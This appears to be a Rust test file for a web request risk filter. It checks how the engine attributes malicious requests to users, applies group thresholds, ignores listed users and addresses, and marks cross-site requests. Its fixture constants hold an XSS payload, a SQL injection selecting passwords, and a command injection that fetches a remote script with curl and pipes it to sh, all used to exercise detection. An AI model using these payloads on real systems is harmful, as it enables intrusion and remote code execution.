//! Whose is it, all the way through the engine? Exchanges as they come, and what the log says of each.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use serde_json::Value;
use user_risk_filter::clock::Timestamp;
use user_risk_filter::engine::stream::{Mark, Part, Stream};
use user_risk_filter::engine::{Engine, Input};
use user_risk_filter::exchange::head::Head;
use user_risk_filter::exchange::headers::Headers;
use user_risk_filter::exchange::proxy::Known;
use user_risk_filter::plugin::config::Config;
use user_risk_filter::secret::Variable;
use user_risk_filter::state::memory::Memory;
use user_risk_filter::worker::effect::Effect;

const HIGH: &str = "/say?t=%3Cscript%3Ealert(1)%3C/script%3E";
const CRITICAL: &str = "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--";
const COMMAND: &str = "/run?c=%3Bcurl%20http://x.example/s%7Csh";
const PLAIN: &str = "/search?q=union%20jack";

struct Filter {
    engine: Engine<Memory>,
    now: u64,
}

impl Filter {
    fn new(configuration: &str) -> Self {
        let config = Config::load(configuration.as_bytes(), &|_| Variable::Unset).unwrap().config;
        Self { engine: Engine::new(config, Memory::default(), [1; 32]), now: 1_000_000 }
    }

    /// The lines of one exchange with these headers, from this address.
    fn lines(&mut self, target: &str, headers: &[(&str, &str)], address: &str) -> Vec<Value> {
        self.now += 1000;
        let proxy = Known::default().with_address(address).answering(200, Headers::default());
        let own = [(":method", "GET"), (":path", target), (":authority", "shop.example")];
        let head = Head::new(own.into_iter().chain(headers.iter().copied()).collect());
        let marks = [Mark::Complete, Mark::Answered, Mark::End].map(|mark| Part::Mark(mark, &proxy));
        let mut stream = Stream::default();
        let parts = std::iter::once(Part::Head(head)).chain(marks);
        let effects =
            parts.flat_map(|part| self.engine.on(Input::Stream(&mut stream, part), Timestamp::from_millis(self.now)));
        let line =
            |effect| if let Effect::Log(_, line) = effect { Some(serde_json::from_str(&line).unwrap()) } else { None };
        effects.filter_map(line).collect()
    }

    /// The line about the request.
    fn line(&mut self, target: &str, headers: &[(&str, &str)], address: &str) -> Value {
        let found = self.lines(target, headers, address).into_iter().find(|line| line["event"] == "malicious_request");
        found.unwrap_or_default()
    }

    /// Did the request open an incident?
    fn opens(&mut self, target: &str, user: &str) -> bool {
        let lines = self.lines(target, &[("x-user-id", user)], "192.0.2.7:1");
        lines.iter().any(|line| line["event"] == "incident_opened")
    }
}

#[test]
fn a_group_has_its_threshold_and_a_single_request_passes_none() {
    let mut filter = Filter::new(
        r#"{"groups": [{"match": {"users": ["svc-*"]}, "threshold": 100},
                       {"match": {"users": ["root"]}, "threshold": 5},
                       {"match": {"users": ["gone-*"]}, "threshold": 1, "until": "1970-01-01"}]}"#,
    );
    filter.now = 86_400_000;
    let rows = [("svc-a", 100, 8), ("root", 5, 5), ("gone-a", 10, 8), ("alice", 10, 8)];
    for (user, threshold, points) in rows {
        let line = filter.line(CRITICAL, &[("x-user-id", user)], "192.0.2.7:1");
        assert_eq!((&line["threshold"], &line["points"]), (&threshold.into(), &points.into()), "{user}");
    }
    assert!(!filter.opens(COMMAND, "svc-a"));
    assert!(filter.opens(COMMAND, "root"));
    assert!(filter.opens(COMMAND, "alice"));
}

#[test]
fn two_names_are_held_against_the_last_and_cost_a_harmless_request_nothing() {
    let mut filter = Filter::new("{}");
    let line = filter.line(PLAIN, &[("x-user-id", "forged"), ("x-user-id", "alice")], "192.0.2.7:1");
    assert_eq!(
        (&line["user"], &line["points"], &line["rules"][0]["category"]),
        (&"alice".into(), &3.into(), &"session".into())
    );
    assert_eq!(filter.line(PLAIN, &[("x-user-id", "alice"), ("x-user-id", "alice")], "192.0.2.7:1"), Value::Null);
    assert_eq!(filter.line(PLAIN, &[("x-user-id", "alice")], "192.0.2.7:1"), Value::Null);
}

#[test]
fn who_is_ignored_never_scores_but_is_seen() {
    let mut filter = Filter::new(r#"{"user": {"ignore": {"users": ["svc-*"], "addresses": ["10.0.0.0/8"]}}}"#);
    for (user, address) in [("svc-a", "192.0.2.7:1"), ("alice", "10.0.0.1:1"), ("", "10.0.0.1:1")] {
        let line = filter.line(CRITICAL, &[("x-user-id", user)], address);
        let shown = if user.is_empty() { "10.0.0.1" } else { user };
        let found = (&line["ignored"], &line["user"], &line["points"], &line["increase"]);
        assert_eq!(found, (&true.into(), &shown.into(), &0.into(), &Value::Null), "{user} {address}");
    }
    assert_eq!(filter.line(CRITICAL, &[("x-user-id", "alice")], "192.0.2.7:1")["increase"], 8, "nothing was kept");
}

#[test]
fn what_another_site_sent_scores_and_is_marked() {
    let mut filter = Filter::new("{}");
    for (site, expected) in [
        ("cross-site", Value::Bool(true)),
        ("same-site", Value::Null),
        ("same-origin", Value::Null),
        ("none", Value::Null),
    ] {
        let line = filter.line(HIGH, &[("x-user-id", site), ("sec-fetch-site", site)], "192.0.2.7:1");
        assert_eq!((&line["possible_victim"], line["points"].as_u64() > Some(0)), (&expected, true), "{site}");
    }
}

#[test]
fn an_empty_name_is_held_against_the_address_and_seen() {
    let mut filter = Filter::new("{}");
    let line = filter.line(PLAIN, &[("x-user-id", "")], "192.0.2.7:1");
    assert_eq!(
        (&line["user"], &line["points"], &line["rules"][0]["rule"]),
        (&"192.0.2.7".into(), &3.into(), &"session.empty-name".into())
    );
}

#[test]
fn a_user_and_a_session_are_read_from_the_same_cookie() {
    let mut filter = Filter::new(r#"{"user": {"sources": [{"cookie": "sid"}], "session": {"cookie": "sid"}}}"#);
    let one = filter.line(CRITICAL, &[("cookie", "sid=a")], "192.0.2.7:1");
    let two = filter.line(HIGH, &[("cookie", "sid=a; sid=b")], "192.0.2.7:1");
    assert_eq!(one["user"], two["user"]);
    let rules: Vec<_> = two["rules"].as_array().unwrap().iter().map(|rule| rule["rule"].clone()).collect();
    assert!(rules.contains(&"session.two-names".into()), "{rules:?}");
    assert!(!rules.contains(&"session.two-users".into()), "{rules:?}");
}
